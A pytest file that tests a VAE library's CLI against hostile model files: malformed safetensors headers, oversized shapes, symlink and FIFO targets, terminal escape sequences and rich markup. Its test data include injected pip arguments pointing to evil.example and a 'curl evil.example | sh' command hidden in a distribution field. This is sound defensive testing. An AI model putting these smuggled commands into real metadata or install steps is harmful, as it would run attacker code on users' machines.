"""Model files against a hostile tester (docs/reliability.md): a model file's header and metadata cannot
steer vaezoo (paths, sizes, types), leak bytes, take gigabytes or minutes, crash `inspect` / `card` /
`push`, choose a pip command, or put control characters on the terminal; damaged or non-finite weights
are refused before anything is built; and vaezoo writes only regular files (never through a symlink,
into a FIFO or over a device). Each case is one line on stderr and exit 2."""

from __future__ import annotations

import json
import os
import stat
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import run_cli, run_cli_batch
from safetensors.torch import load_file
from tinydata import Raw, one_line, rewrite, set_key

import vaezoo
from vaezoo.errors import CheckpointError, VaezooError

# `vaezoo ARGS` that writes its peak resident memory (KiB) to $PEAK_FILE however it ends (VmHWM: unlike
# ru_maxrss, it does not carry over the parent's peak across fork and exec)
MEASURED = """
import os, sys
from vaezoo.cli import main
try:
    main(sys.argv[1:])
finally:
    peak = next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM:"))
    with open(os.environ["PEAK_FILE"], "w") as out:
        out.write(peak)
"""


def run_measured(tmp_path: Path, *args: str, timeout: float = 120) -> tuple[subprocess.CompletedProcess, int, float]:
    """`vaezoo ARGS` in a fresh process: the completed process, its peak memory in MiB and its seconds."""
    peak = tmp_path / "peak.txt"
    start = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-c", MEASURED, *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "PEAK_FILE": str(peak)},
    )
    return result, int(peak.read_text()) // 1024, time.monotonic() - start


def with_header(source: Path, target: Path, change) -> Path:
    """A copy of a model file whose whole safetensors header (tensors and `__metadata__`) went through
    `change(header)`; `change` may return bytes to use as the header's JSON as it is."""
    data = source.read_bytes()
    (size,) = struct.unpack("<Q", data[:8])
    header = json.loads(data[8 : 8 + size])
    raw = change(header)
    encoded = raw if isinstance(raw, bytes) else json.dumps(header).encode()
    target.write_bytes(struct.pack("<Q", len(encoded)) + encoded + data[8 + size :])
    return target


def first_tensor(header: dict) -> dict:
    return header[next(k for k in sorted(header) if k != "__metadata__")]


# ---- only regular files are written ---------------------------------------------------------------


@pytest.fixture(scope="module")
def refused_writes(small_model: Path, tmp_path_factory: pytest.TempPathFactory) -> dict:
    """`sample --out` a FIFO, `sample --out` a symlink to a file outside, `sample --out /dev/null` (as
    root) and `push --dry-run` into a folder holding a FIFO, in one fresh process: {case: (path, result)}."""
    root = tmp_path_factory.mktemp("refused-writes")
    (root / "fifo").mkdir()
    fifo = root / "fifo" / "out.png"
    os.mkfifo(fifo)
    outside = root / "elsewhere" / "precious.txt"
    outside.parent.mkdir()
    outside.write_text("keep me")
    link = root / "run" / "samples.png"
    link.parent.mkdir()
    link.symlink_to(outside)
    folder = root / "upload"
    folder.mkdir()
    os.mkfifo(folder / "README.md")
    sample = ["sample", str(small_model), "-n", "4", "--device", "cpu", "--out"]
    cases = {
        "fifo": (fifo, [*sample, str(fifo)]),
        "symlink": (link, [*sample, str(link)]),
        "push": (folder / "README.md", ["push", str(small_model), "my-org/model", "--dry-run", str(folder)]),
        **({"dev null": (Path("/dev/null"), [*sample, "/dev/null"])} if os.geteuid() == 0 else {}),
    }
    results = run_cli_batch([command for _, command in cases.values()], root)
    return {case: (path, result) for (case, (path, _)), result in zip(cases.items(), results)}


def test_sample_refuses_a_fifo_and_leaves_it(refused_writes: dict) -> None:
    fifo, result = refused_writes["fifo"]
    line = one_line(result)
    assert str(fifo) in line and "FIFO" in line and "only regular files" in line
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert [p.name for p in fifo.parent.iterdir()] == ["out.png"]  # no temporary file left behind


def test_sample_refuses_a_symlink_and_the_file_it_points_at_is_unchanged(refused_writes: dict) -> None:
    link, result = refused_writes["symlink"]
    line = one_line(result)
    assert str(link) in line and "symbolic link" in line
    assert link.is_symlink() and link.resolve().read_text() == "keep me"


@pytest.mark.skipif(os.geteuid() != 0, reason="replacing /dev/null needs root")
def test_sample_as_root_never_replaces_dev_null(refused_writes: dict) -> None:
    line = one_line(refused_writes["dev null"][1])
    assert "/dev/null" in line and "character device" in line
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_push_dry_run_refuses_a_fifo_in_its_folder(refused_writes: dict) -> None:
    fifo, result = refused_writes["push"]
    line = one_line(result)
    assert str(fifo) in line and "FIFO" in line
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_every_writer_refuses_what_is_not_a_regular_file(tmp_path: Path) -> None:
    """files.write_bytes_atomic is the one writer (models, states, caches, recipe.toml, metrics, pictures)."""
    import torch

    from vaezoo.files.atomic import write_bytes_atomic, write_text_atomic
    from vaezoo.files.png import save_grid
    from vaezoo.trainer.pictures import save_loss_plot

    outside = tmp_path / "outside.txt"
    outside.write_text("keep me")
    (tmp_path / "link").symlink_to(outside)
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "folder").mkdir()
    for name, kind in (
        ("link", "symbolic link"),
        ("dangling", "symbolic link"),
        ("fifo", "FIFO"),
        ("folder", "folder"),
    ):
        target = tmp_path / name
        for write in (
            lambda: write_bytes_atomic(target, b"x"),
            lambda: write_text_atomic(target, "x"),
            lambda: save_grid(torch.zeros(1, 3, 4, 4), target),
            lambda: save_loss_plot([{"epoch": 1, "train_loss": 1.0, "test_loss": 1.0}], target),
        ):
            with pytest.raises(VaezooError, match=kind) as refused:
                write()
            assert str(target) in str(refused.value) and "\n" not in str(refused.value)
    assert outside.read_text() == "keep me" and not (tmp_path / "nowhere").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dangling", "fifo", "folder", "link", "outside.txt"]
    write_bytes_atomic(tmp_path / "fine.bin", b"ok")  # a regular file, new or existing, is written as before
    write_bytes_atomic(tmp_path / "fine.bin", b"ok2")
    assert (tmp_path / "fine.bin").read_bytes() == b"ok2"


# ---- no raw bytes of a file in a message ---------------------------------------------------------


def test_a_header_length_is_never_printed(tmp_path: Path) -> None:
    """Through a symlink to a secret, a message must not decode its first 8 bytes as a number."""
    secret = tmp_path / "shadow"
    secret.write_bytes(b"root:$6$saltsalt$hashhashhash:19000:0:99999:7:::\n")
    link = tmp_path / "model.safetensors"
    link.symlink_to(secret)
    leaked = str(int.from_bytes(secret.read_bytes()[:8], "little"))
    big = tmp_path / "big.safetensors"  # a length that fits in the file but is over the 100 MB bound
    big.write_bytes(struct.pack("<Q", 150_000_000) + b"{" * 64)
    os.truncate(big, 150_000_100)
    commands = [["inspect", str(link)], ["card", str(link)], ["sample", str(link), "--out", str(tmp_path / "s.png")]]
    *secret_lines, big_line = (
        one_line(result) for result in run_cli_batch([*commands, ["inspect", str(big)]], tmp_path)
    )
    for line in secret_lines:
        assert "header length out of range" in line and leaked not in line, line
    assert "header length out of range" in big_line and "150000000" not in big_line


# ---- bounded memory and time ---------------------------------------------------------------------


HEADERS = {
    "a shape of a list and a float": (lambda h: first_tensor(h).update(shape=[[0], 4e8]), "has shape"),
    "huge dimensions": (lambda h: first_tensor(h).update(shape=[0, 10**15]), "has shape"),
    "dimensions that do not match the bytes": (
        lambda h: first_tensor(h).update(shape=[400_000, 400_000]),
        "does not match its data_offsets",
    ),
    "too many dimensions": (lambda h: first_tensor(h).update(shape=[1] * 9), "has shape"),
    "negative dimension": (lambda h: first_tensor(h).update(shape=[-1, 128]), "has shape"),
    "unknown dtype": (lambda h: first_tensor(h).update(dtype="F128"), "has dtype"),
    "dtype not a string": (lambda h: first_tensor(h).update(dtype=["F32"]), "has dtype"),
    "offsets not ints": (lambda h: first_tensor(h).update(data_offsets=[0, "512"]), "data_offsets"),
    "offsets beyond the file": (lambda h: first_tensor(h).update(data_offsets=[10**12, 10**12 + 512]), "truncated"),
    "tensor entry not an object": (lambda h: h.update(weird=[1, 2]), "is not an object"),
    "metadata not strings": (lambda h: h["__metadata__"].update({"vaezoo.version": 2}), "__metadata__"),
    "deep header": (lambda h: b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "not JSON"),
    "5000-digit offset": (
        lambda h: json.dumps(h).replace('"data_offsets": [0,', '"data_offsets": [' + "9" * 5000 + ",", 1).encode(),
        "not JSON",
    ),
}


@pytest.mark.parametrize("case", sorted(HEADERS))
def test_a_hostile_header_is_one_line_in_bounded_memory(small_model: Path, tmp_path: Path, case: str) -> None:
    change, expected = HEADERS[case]
    bad = with_header(small_model, tmp_path / "bad.safetensors", change)
    for command in (["inspect", str(bad)], ["card", str(bad)]):
        result, peak, seconds = run_measured(tmp_path, *command)
        line = one_line(result)
        assert str(bad) in line and expected in line, line
        assert peak < 300 and seconds < 30, (peak, seconds)
    with pytest.raises(CheckpointError, match=expected):
        vaezoo.load(bad)


def test_a_huge_sparse_file_is_never_read_whole(small_model: Path, tmp_path: Path) -> None:
    """3 GiB after the tensors (a sparse file): refused from the header and the file size alone. A
    genuine 3 GiB tensor in a model file is hashed a megabyte at a time by inspect and card."""
    padded = tmp_path / "padded.safetensors"
    padded.write_bytes(small_model.read_bytes())
    os.truncate(padded, padded.stat().st_size + 3 * 2**30)
    for command in (
        ["inspect", str(padded)],
        ["card", str(padded)],
        ["sample", str(padded), "--out", str(tmp_path / "s.png")],
    ):
        result, peak, seconds = run_measured(tmp_path, *command)
        assert "bytes follow the tensors" in one_line(result)
        assert peak < 1000 and seconds < 30, (command, peak, seconds)

    def huge_tensor(header: dict) -> None:
        end = max(v["data_offsets"][1] for k, v in header.items() if k != "__metadata__")
        header["extra"] = {"dtype": "U8", "shape": [3, 2**30], "data_offsets": [end, end + 3 * 2**30]}

    genuine = with_header(small_model, tmp_path / "genuine.safetensors", huge_tensor)
    os.truncate(genuine, genuine.stat().st_size + 3 * 2**30)
    result, peak, seconds = run_measured(tmp_path, "inspect", str(genuine), "--json", timeout=300)
    assert result.returncode == 0, result.stderr[-2000:]
    info = json.loads(result.stdout)
    assert info["size_bytes"] == genuine.stat().st_size and info["shapes"]["extra"] == [3, 2**30]
    assert peak < 300, peak


def test_image_shapes_a_file_may_claim_are_bounded(small_model: Path, tmp_path: Path) -> None:
    shapes = ([3, 4096, 4096], [3, 2048, 8], [64, 1024, 1024], [4, 1024, 1024])
    commands = []
    for index, shape in enumerate(shapes):
        bad = rewrite(small_model, tmp_path / f"bad{index}.safetensors", set_key(["vaezoo.data", "shape"], shape))
        commands += [["inspect", str(bad)], ["sample", str(bad), "-n", "1", "--out", str(tmp_path / "s.png")]]
    for command, result in zip(commands, run_cli_batch(commands, tmp_path)):  # one fresh process
        assert "vaezoo.data.shape" in one_line(result), command
    assert not (tmp_path / "s.png").exists()


@pytest.fixture(scope="module")
def small_vqvae(cifar: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("vqvae") / "run"
    sets = [
        "model.hidden=8",
        "model.res_blocks=1",
        "model.codebook_size=8",
        "latent_dim=4",
        "model.prior_channels=4",
        "model.prior_layers=1",
        "train.batch_size=16",
        "train.sample_count=4",
        "train.eval_batch_size=64",
    ]
    vaezoo.fit(
        "cifar-vqvae",
        sets=sets,
        options={"train.limit": 32, "train.test_limit": 16, "train.epochs": 1},
        out=out,
        data_dir=cifar,
        device="cpu",
    )
    return out / "model.safetensors"


VQVAE_CHANGES = {
    "res_blocks=400000": (set_key(["vaezoo.recipe", "model", "res_blocks"], 400_000), "res_blocks from 0 to 64"),
    "levels=1e12": (set_key(["vaezoo.recipe", "model", "levels"], 1e12), "levels"),
    "levels=10**12": (set_key(["vaezoo.recipe", "model", "levels"], 10**12), "levels"),
    "prior_layers=10**6": (set_key(["vaezoo.recipe", "model", "prior_layers"], 10**6), "prior_layers from 1 to 64"),
    "1024 x 1024 images": (set_key(["vaezoo.data", "shape"], [3, 1024, 1024]), "32 x 32"),
}


@pytest.mark.parametrize("case", sorted(VQVAE_CHANGES))
def test_a_vqvae_file_cannot_make_sampling_loop_for_minutes(small_vqvae: Path, tmp_path: Path, case: str) -> None:
    change, expected = VQVAE_CHANGES[case]
    bad = rewrite(small_vqvae, tmp_path / "bad.safetensors", change)
    result, peak, seconds = run_measured(
        tmp_path, "sample", str(bad), "-n", "1", "--out", str(tmp_path / "s.png"), "--device", "cpu"
    )
    line = one_line(result)
    assert str(bad) in line and expected in line, line
    assert seconds < 60 and peak < 2000, (seconds, peak)
    assert not (tmp_path / "s.png").exists()


def test_a_resnet_file_with_400000_blocks_is_refused_before_building(small_model: Path, tmp_path: Path) -> None:
    bad = rewrite(
        small_model,
        tmp_path / "bad.safetensors",
        set_key(["vaezoo.recipe", "encoder"], {"name": "resnet", "hidden": [4, 8, 8], "blocks": 400_000}),
    )
    result, peak, seconds = run_measured(
        tmp_path, "sample", str(bad), "-n", "1", "--out", str(tmp_path / "s.png"), "--device", "cpu"
    )
    assert "blocks from 0 to 64" in one_line(result) and seconds < 60
    long = rewrite(
        small_model, tmp_path / "long.safetensors", set_key(["vaezoo.recipe", "encoder", "hidden"], [4] * 400_000)
    )
    assert "hidden: a list of at most 64" in one_line(
        run_cli("sample", str(long), "-n", "1", "--out", str(tmp_path / "s.png"))
    )


def test_default_plugins_bound_their_constructor_arguments() -> None:
    """Counts that drive loops are bounded before any loop: a file's recipe reaches these constructors
    (first on the meta device, which still runs the Python loops)."""
    from vaezoo_defaults.dlogistic.loss import DiscretizedLogisticKL
    from vaezoo_defaults.hvae.model import HierarchicalVAE
    from vaezoo_defaults.imagefolder.dataset import ImageFolder
    from vaezoo_defaults.resnet.model import ResNetDecoder
    from vaezoo_defaults.vqvae.model import VQVAE

    loss = DiscretizedLogisticKL(n_mix=1)
    cases = [
        (lambda: VQVAE(loss=loss, in_shape=(3, 32, 32), res_blocks=400_000), "res_blocks"),
        (lambda: VQVAE(loss=loss, in_shape=(3, 32, 32), levels=10**12), "levels"),
        (lambda: VQVAE(loss=loss, in_shape=(3, 32, 32), levels=True), "levels"),
        (lambda: VQVAE(loss=loss, in_shape=(3, 32, 32), hidden=2.5), "hidden"),
        (lambda: HierarchicalVAE(loss=loss, in_shape=(3, 32, 32), blocks=400_000), "blocks"),
        (lambda: HierarchicalVAE(loss=loss, in_shape=(3, 32, 32), levels=[4] * 400_000), "levels"),
        (lambda: HierarchicalVAE(loss=loss, in_shape=(3, 32, 32), width=10**12), "width"),
        (lambda: ResNetDecoder(out_shape=(3, 32, 32), latent_dim=4, hidden=[8] * 65), "hidden"),
        (lambda: ResNetDecoder(out_shape=(3, 32, 32), latent_dim=4, hidden=[8], blocks=10**9), "blocks"),
        (lambda: ImageFolder(root=Path("."), size=3072), "size"),
    ]
    start = time.monotonic()
    for make, key in cases:
        with pytest.raises(ValueError, match=key):
            make()
    assert time.monotonic() - start < 5


def test_a_file_cannot_make_eval_decode_images_at_3072_pixels(small_model: Path, tmp_path: Path) -> None:
    folder = tmp_path / "pictures"
    folder.mkdir()
    from PIL import Image

    for i in range(4):
        Image.new("RGB", (32, 32), (60 * i, 0, 0)).save(folder / f"{i}.png")
    bad = rewrite(
        small_model,
        tmp_path / "bad.safetensors",
        set_key(
            ["vaezoo.recipe", "dataset"],
            {"name": "image-folder", "size": 3072, "grayscale": False, "test_fraction": 0.5},
        ),
    )
    result, peak, seconds = run_measured(tmp_path, "eval", str(bad), "--data-dir", str(folder), "--json")
    assert "size from 1 to 1024" in one_line(result) and seconds < 60


# ---- wrong types, deep JSON, rich markup ---------------------------------------------------------


METADATA = {
    "training a list": (set_key(["vaezoo.training"], [1, 2]), "vaezoo.training"),
    "metrics a string": (set_key(["vaezoo.training", "metrics"], "great"), "vaezoo.training"),
    "epochs a string": (set_key(["vaezoo.training", "epochs"], "many"), "vaezoo.training.epochs"),
    "components of strings": (set_key(["vaezoo.components"], ["vae", "conv"]), "vaezoo.components[0]"),
    "component without a distribution": (
        lambda m: m["vaezoo.components"][1].pop("distribution"),
        "vaezoo.components[1]",
    ),
    "component version a number": (lambda m: m["vaezoo.components"][2].update(version=2.0), "vaezoo.components[2]"),
    "model table a list": (set_key(["vaezoo.recipe", "model"], ["vae"]), "vaezoo.recipe.model"),
    "summary a number": (set_key(["vaezoo.recipe", "summary"], 5), "vaezoo.recipe.summary"),
    "version a list": (set_key(["vaezoo.version"], [0, 2]), "vaezoo.version"),
    "format true": (set_key(["vaezoo.format_version"], True), "format"),
    "5000-digit latent_dim": (set_key(["vaezoo.recipe"], Raw('{"latent_dim": ' + "9" * 5000 + "}")), "vaezoo.recipe"),
    "deep training": (set_key(["vaezoo.training"], Raw("[" * 100_000 + "]" * 100_000)), "vaezoo.training"),
    "escape in the summary": (
        set_key(["vaezoo.recipe", "summary"], "nice\x1b]0;pwned\x07\x1b[2J"),
        "vaezoo.recipe.summary holds a control character",
    ),
    "carriage return in a class": (
        lambda m: m["vaezoo.data"]["classes"].__setitem__(3, "cat\rdog"),
        "vaezoo.data.classes[3] holds a control character",
    ),
    "escape in a metric's name": (set_key(["vaezoo.training", "metrics", "x\x1b[31m"], 1.0), "a control character"),
    "C1 control in a key": (
        set_key(["vaezoo.recipe", "train", "\x9bx"], 1),
        "vaezoo.recipe.train.<a key> holds a control character",
    ),
}


@pytest.fixture(scope="module")
def read_by_every_reader(small_model: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple]:
    """METADATA case -> (its file, its folder, [inspect, inspect --json, card, push --dry-run, sample] of
    the file), the commands of all the cases run in one fresh process."""
    root = tmp_path_factory.mktemp("metadata")
    cases, commands = {}, []
    for index, case in enumerate(sorted(METADATA)):
        folder = root / str(index)
        folder.mkdir()
        bad = rewrite(small_model, folder / "bad.safetensors", METADATA[case][0])
        readers = [
            ["inspect", str(bad)],
            ["inspect", str(bad), "--json"],
            ["card", str(bad)],
            ["push", str(bad), "my-org/x", "--dry-run", str(folder / "up")],
            ["sample", str(bad), "--out", str(folder / "s.png")],
        ]
        cases[case] = (bad, folder, len(commands), len(commands) + len(readers))
        commands += readers
    results = run_cli_batch(commands, root)
    return {case: (bad, folder, results[start:end]) for case, (bad, folder, start, end) in cases.items()}


@pytest.mark.parametrize("case", sorted(METADATA))
def test_metadata_of_the_wrong_type_is_one_line_for_every_reader(read_by_every_reader: dict, case: str) -> None:
    _, expected = METADATA[case]
    bad, folder, results = read_by_every_reader[case]
    assert [result.args[0] for result in results] == ["inspect", "inspect", "card", "push", "sample"]
    for result in results:
        line = one_line(result)
        assert str(bad) in line and expected in line, (result.args, line)
        assert "\x1b" not in result.stderr and "\r" not in result.stderr and "\x9b" not in result.stderr
    assert not (folder / "up").exists() and not (folder / "s.png").exists()


MARKUP = "[/bold] [link=https://evil.example]click[/link] [red]"


def test_the_card_shows_rich_markup_in_metadata_as_plain_text(small_model: Path, tmp_path: Path) -> None:
    bad = rewrite(small_model, tmp_path / "bad.safetensors", set_key(["vaezoo.recipe", "summary"], MARKUP))
    card = run_cli("card", str(bad))
    assert card.returncode == 0, card.stderr[-2000:]
    assert MARKUP in card.stdout


def test_inspect_shows_rich_markup_in_metadata_as_plain_text(small_model: Path, tmp_path: Path) -> None:
    bad = rewrite(
        small_model,
        tmp_path / "bad.safetensors",
        lambda m: (
            m["vaezoo.recipe"].update(name=MARKUP, summary=MARKUP),
            m["vaezoo.data"]["classes"].__setitem__(0, MARKUP),
        ),
    )
    shown = run_cli("inspect", str(bad))
    assert shown.returncode == 0, shown.stderr[-2000:]
    assert "[/bold]" in shown.stdout and "[link=" in shown.stdout


# ---- a file never chooses a pip command ----------------------------------------------------------


EVIL_DISTRIBUTIONS = [
    "--index-url https://evil.example/simple vaezoo-fancy",
    "vaezoo-fancy; curl evil.example | sh",
    "-e git+https://evil.example/x",
    "unknown",
    "x" * 200,
    "fancy\nline",
]


def fancy_encoder(distribution: str, version: str):
    """A metadata change: the encoder is 'fancy', of `distribution` at `version`."""

    def change(metadata):
        for record in metadata["vaezoo.components"]:
            if record["kind"] == "encoder":
                record.update(name="fancy", distribution=distribution, version=version)

    return change


@pytest.fixture(scope="module")
def sampled_and_carded(small_model: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple]:
    """EVIL_DISTRIBUTIONS item -> (its folder, `sample` of its file, `card` of it), one fresh process for all."""
    root = tmp_path_factory.mktemp("pip")
    folders, commands = [], []
    for index, distribution in enumerate(EVIL_DISTRIBUTIONS):
        folders.append(root / str(index))
        folders[-1].mkdir()
        change = fancy_encoder(distribution, "1.0 --index-url https://evil.example/simple")
        bad = rewrite(small_model, folders[-1] / "bad.safetensors", change)
        commands += [["sample", str(bad), "--out", str(folders[-1] / "s.png")], ["card", str(bad)]]
    results = run_cli_batch(commands, root)
    return {d: (folders[i], results[2 * i], results[2 * i + 1]) for i, d in enumerate(EVIL_DISTRIBUTIONS)}


@pytest.mark.parametrize("distribution", EVIL_DISTRIBUTIONS)
def test_a_file_never_chooses_the_pip_line(sampled_and_carded: dict, distribution: str) -> None:
    folder, sampled, card = sampled_and_carded[distribution]
    line = one_line(sampled)
    assert not (folder / "s.png").exists()
    if "\n" in distribution:
        assert "vaezoo.components[2].distribution holds a control character" in line
        return
    assert "needs encoder 'fancy'" in line and "pip install" not in line and "not valid" in line
    assert card.returncode == 0, card.stderr[-2000:]
    installs = [row for row in card.stdout.splitlines() if row.startswith("pip install")]
    assert installs == [f"pip install 'vaezoo[hub]=={vaezoo.__version__}'"]
    assert '# "fancy": its plugin distribution is unknown or its name is not valid' in card.stdout


def test_a_valid_distribution_with_a_hostile_version_is_not_pinned(small_model: Path, tmp_path: Path) -> None:
    from vaezoo.sharing.card import install_lines

    lines = install_lines(
        [
            {
                "kind": "encoder",
                "name": "fancy",
                "plugin": "p",
                "distribution": "vaezoo-fancy",
                "version": "1.0' --index-url https://evil.example/simple '",
            }
        ]
    )
    assert lines == ["pip install 'vaezoo[hub]'", "pip install 'vaezoo-fancy'"]
    assert (
        install_lines([{"distribution": "vaezoo-fancy", "version": "2.1.0rc1"}])[1]
        == "pip install 'vaezoo-fancy==2.1.0rc1'"
    )

    change = fancy_encoder("vaezoo-fancy", "1.0 --index-url https://evil.example/simple")
    bad = rewrite(small_model, tmp_path / "bad.safetensors", change)
    line = one_line(run_cli("sample", str(bad), "--out", str(tmp_path / "s.png")))
    assert line.endswith("`pip install vaezoo-fancy`") and "evil" not in line


# ---- damaged and hostile metadata ----------------------------------------------------------------


HOSTILE = {
    "huge latent_dim": set_key(["vaezoo.recipe", "latent_dim"], 60000),
    "astronomic latent_dim": set_key(["vaezoo.recipe", "latent_dim"], 10**15),
    "huge hidden": set_key(["vaezoo.recipe", "encoder", "hidden"], [4, 8, 10**6]),
    "huge image": set_key(["vaezoo.data", "shape"], [3, 100000, 100000]),
    "2-D data shape": set_key(["vaezoo.data", "shape"], [32, 32]),
    "data shape of strings": set_key(["vaezoo.data", "shape"], ["3", "32", "32"]),
    "components of the wrong type": set_key(["vaezoo.components"], {"kind": "encoder"}),
    "a component without a name": set_key(["vaezoo.components"], [{"kind": "encoder"}]),
    "recipe without a dataset": lambda m: m["vaezoo.recipe"].pop("dataset"),
    "recipe of the wrong type": set_key(["vaezoo.recipe"], [1, 2, 3]),
    "metrics of the wrong type": set_key(["vaezoo.training", "metrics", "test_loss"], [1, 2]),
    "training of the wrong type": set_key(["vaezoo.training"], "yesterday"),
    "classes of the wrong type": set_key(["vaezoo.data", "classes"], "cat"),
    "conditional not a boolean": set_key(["vaezoo.data", "conditional"], "yes"),
    "nested metrics": set_key(["vaezoo.training", "metrics", "deep"], json.loads("[" * 200 + "]" * 200)),
    "deep nesting": set_key(["vaezoo.training"], Raw("[" * 100_000 + "]" * 100_000)),
    "format 99": set_key(["vaezoo.format_version"], 99),
    "unknown model family": set_key(["vaezoo.recipe", "model"], {"name": "no-such-family"}),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_damaged_or_hostile_model_file_is_one_clear_error_before_anything_is_built(
    small_model: Path, tmp_path: Path, case: str
) -> None:
    bad = rewrite(small_model, tmp_path / "bad.safetensors", HOSTILE[case])
    with pytest.raises(CheckpointError) as refused:
        vaezoo.load(bad)
    assert str(bad) in str(refused.value) and "\n" not in str(refused.value)


@pytest.mark.slow
def test_the_cli_refuses_them_in_one_line_exit_2(small_model: Path, tmp_path: Path) -> None:
    commands = []
    for case in ("huge latent_dim", "deep nesting"):
        bad = rewrite(small_model, tmp_path / f"{case}.safetensors", HOSTILE[case])
        commands += [
            ["sample", str(bad), "--out", str(tmp_path / "s.png")],
            ["eval", str(bad), "--limit", "8", "--json"],
        ]
    for command, result in zip(commands, run_cli_batch(commands, tmp_path)):  # one fresh process
        assert command[1] in one_line(result), command
    assert not (tmp_path / "s.png").exists()


@pytest.mark.slow
def test_a_file_with_a_huge_latent_size_is_refused_without_taking_its_memory(small_model: Path, tmp_path: Path) -> None:
    """A 1.8 MB model file claiming latent_dim = 60000 took gigabytes before a shape check."""
    bad = rewrite(small_model, tmp_path / "bad.safetensors", HOSTILE["huge latent_dim"])
    peak = "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)"
    probe = f"import resource, vaezoo\ntry:\n    vaezoo.load({str(bad)!r})\nexcept vaezoo.VaezooError as e:\n"
    probe += f"    print(e)\n{peak}"
    good = f"import resource, vaezoo\nvaezoo.load({str(small_model)!r})\n{peak}"
    refused = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
    normal = subprocess.run([sys.executable, "-c", good], capture_output=True, text=True, timeout=120)
    message, peak = refused.stdout.strip().splitlines()
    assert "decoder.fc.weight" in message or "shape" in message
    assert int(peak) < int(normal.stdout.strip()) + 100_000  # KiB: within 100 MB of loading the real model


@pytest.mark.slow
def test_non_finite_weights_are_refused(small_model: Path, tmp_path: Path) -> None:
    from safetensors.torch import save_file

    from vaezoo.files.model_header import read_header

    data = small_model.read_bytes()
    metadata = read_header(data, small_model)["__metadata__"]
    tensors = load_file(small_model)
    tensors["decoder.fc.bias"][3] = float("nan")
    save_file(tensors, tmp_path / "nan.safetensors", metadata=metadata)
    result = run_cli("sample", str(tmp_path / "nan.safetensors"), "--out", str(tmp_path / "s.png"))
    assert "decoder.fc.bias holds NaN" in one_line(result)


@pytest.mark.slow
def test_a_model_file_never_chooses_the_folder_vaezoo_reads(small_model: Path, cifar: Path, tmp_path: Path) -> None:
    """Metadata naming an image-folder dataset at / must not make eval walk the filesystem: the data
    come from --data-dir."""
    from PIL import Image

    folder = tmp_path / "pictures"
    folder.mkdir()
    for i in range(8):
        Image.new("RGB", (32, 32), (30 * i, 255 - 30 * i, 128)).save(folder / f"{i}.png")
    bad = rewrite(
        small_model,
        tmp_path / "bad.safetensors",
        set_key(
            ["vaezoo.recipe", "dataset"],
            {"name": "image-folder", "path": "/", "size": 32, "grayscale": False, "test_fraction": 0.5},
        ),
    )
    result = run_cli("eval", str(bad), "--data-dir", str(folder), "--json", timeout=120)
    assert result.returncode == 0, result.stderr[-2000:]
    assert json.loads(result.stdout)["images"] == 4  # half of the 8 pictures under --data-dir, nothing from /
